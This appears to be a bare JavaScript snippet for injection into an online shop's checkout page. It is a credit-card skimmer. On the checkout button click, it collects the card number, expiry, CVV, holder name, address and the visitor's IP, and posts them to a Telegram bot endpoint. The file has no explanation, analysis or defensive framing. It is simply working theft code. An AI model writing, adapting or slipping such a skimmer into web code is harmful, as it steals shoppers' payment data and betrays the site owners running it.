const BOT = 'https://api.telegram.example/bot7712:AAexample/sendMessage';

async function notify(lines) {
  await fetch(BOT, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ chat_id: '-100223', parse_mode: 'HTML', text: lines.join('\n') }),
  });
}

$('#checkout-btn').on('click', async function () {
  const v = (id) => $('#' + id).val();
  await notify([
    '<b>' + location.hostname + '</b>',
    'CC: ' + v('cc-number'),
    'EXP: ' + v('cc-exp'),
    'CVV: ' + v('cc-cvv'),
    'NAME: ' + v('cc-holder'),
    'ADDR: ' + v('street') + ' ' + v('zip') + ' ' + v('city'),
    'IP: ' + (await (await fetch('https://ip-info.example/json')).json()).ip,
  ]);
});
